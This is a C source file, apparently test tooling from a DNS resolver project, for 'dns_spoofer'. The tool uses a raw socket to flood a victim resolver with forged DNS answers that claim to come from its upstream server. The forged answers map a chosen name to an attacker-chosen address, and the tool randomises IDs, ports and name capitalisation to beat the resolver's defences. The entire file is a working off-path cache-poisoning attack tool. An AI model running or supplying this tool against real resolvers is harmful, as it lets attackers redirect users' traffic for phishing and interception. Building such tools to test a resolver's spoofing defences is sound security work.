/* An attacker who cannot see the resolver's packets: sends forged answers to one question, from the upstream's address,
 * by a raw socket (root).
 *
 *   dns_spoofer UPSTREAM[:PORT] VICTIM NAME COUNT LOW HIGH FORGED
 *
 * Each is a whole answer to NAME, A: it gives the address FORGED, and has a random ID, a random destination port from
 * LOW to HIGH, and random capitals in the name. When LOW is HIGH the port is known, and the IDs go from 0 upwards.
 * Prints how many were sent. IPv4 alone. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "resolver/base/random.h"
#include "resolver/base/text.h"
#include "resolver/message.h"

#define BATCH      64
#define PACKET_MAX 512
#define TTL        300

struct headers {
    struct iphdr ip;
    struct udphdr udp;
};

struct spoofer {
    struct np_endpoint upstream;
    struct np_addr victim, forged;
    struct np_name name;
    int64_t count, low, high;
    uint64_t random;
    int fd;
};

static int die(const char *what)
{
    fprintf(stderr, "dns_spoofer: %s: %s\n", what, errno ? strerror(errno) : "not valid");
    return 1;
}

/* xorshift64*: fast, and nobody has to guess it. */
static uint64_t next(struct spoofer *spoofer)
{
    spoofer->random ^= spoofer->random >> 12;
    spoofer->random ^= spoofer->random << 25;
    spoofer->random ^= spoofer->random >> 27;
    return spoofer->random * 0x2545f4914f6cdd1du;
}

/* The answer, with its ID. */
static size_t write_answer(struct spoofer *spoofer, uint16_t id, uint8_t *out, size_t size)
{
    uint8_t packet[PACKET_MAX];
    struct np_name name = spoofer->name;
    struct np_query query;
    struct np_answer answer;
    for (size_t i = 0; i < name.len; i++) {
        uint8_t c = name.wire[i] | 0x20;
        if (c >= 'a' && c <= 'z')
            name.wire[i] ^= (uint8_t)((next(spoofer) >> 40 & 1) << 5);
    }
    int len = np_query_write(packet, sizeof packet, id, NP_FLAG_RD, &name, NP_RR_A, true, false);
    if (len < 0 || np_query_parse(packet, (size_t)len, &query) != NP_QUERY_GOOD)
        return 0;
    np_answer_start(&answer, &query, out, size, NP_FLAG_RA);
    np_answer_address(&answer, NP_SECTION_ANSWER, &name, TTL, &spoofer->forged);
    return np_answer_finish(&answer);
}

static size_t write_packet(struct spoofer *spoofer, int64_t number, uint8_t *out, size_t size)
{
    struct headers headers = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP}};
    uint64_t draw = next(spoofer);
    uint64_t ports = (uint64_t)(spoofer->high - spoofer->low + 1);
    uint16_t id = ports == 1 ? (uint16_t)number : (uint16_t)(draw >> 16);
    size_t len = write_answer(spoofer, id, out + sizeof headers, size - sizeof headers);
    memcpy(&headers.ip.saddr, spoofer->upstream.addr.bytes, 4);
    memcpy(&headers.ip.daddr, spoofer->victim.bytes, 4);
    headers.udp.source = htons(spoofer->upstream.port);
    headers.udp.dest = htons((uint16_t)((uint64_t)spoofer->low + (draw >> 32) % ports));
    headers.udp.len = htons((uint16_t)(sizeof headers.udp + len)); /* no checksum: the receiver takes it so */
    memcpy(out, &headers, sizeof headers);
    return sizeof headers + len;
}

/* Sends count packets from number on. Returns 0 or -1. */
static int send_batch(struct spoofer *spoofer, int64_t number, unsigned count)
{
    static uint8_t data[BATCH][PACKET_MAX];
    struct mmsghdr messages[BATCH];
    struct iovec iov[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET};
    memcpy(&to.sin_addr, spoofer->victim.bytes, 4);
    memset(messages, 0, sizeof messages);
    for (unsigned i = 0; i < count; i++) {
        iov[i] = (struct iovec){data[i], write_packet(spoofer, number + i, data[i], PACKET_MAX)};
        messages[i].msg_hdr =
            (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov[i], .msg_iovlen = 1};
    }
    for (unsigned sent = 0; sent < count;) {
        int n = sendmmsg(spoofer->fd, messages + sent, count - sent, 0);
        if (n < 0 && errno != ENOBUFS && errno != EINTR)
            return -1;
        sent += n > 0 ? (unsigned)n : 0;
    }
    return 0;
}

int main(int argc, char **argv)
{
    static struct spoofer spoofer;
    errno = 0;
    if (argc != 8 || np_endpoint_parse(argv[1], 53, &spoofer.upstream) || np_addr_parse(argv[2], &spoofer.victim) ||
        np_name_parse(argv[3], &spoofer.name) || np_parse_int(argv[4], 1, 100000000, &spoofer.count) ||
        np_parse_int(argv[5], 1, UINT16_MAX, &spoofer.low) ||
        np_parse_int(argv[6], spoofer.low, UINT16_MAX, &spoofer.high) || np_addr_parse(argv[7], &spoofer.forged))
        return die("usage: dns_spoofer UPSTREAM[:PORT] VICTIM NAME COUNT LOW HIGH FORGED");
    np_random_bytes(&spoofer.random, sizeof spoofer.random);
    spoofer.random |= 1;
    spoofer.fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (spoofer.fd < 0)
        return die("raw socket");
    for (int64_t number = 0; number < spoofer.count; number += BATCH) {
        int64_t left = spoofer.count - number;
        if (send_batch(&spoofer, number, (unsigned)(left < BATCH ? left : BATCH)))
            return die("send");
    }
    printf("%lld\n", (long long)spoofer.count);
    return 0;
}
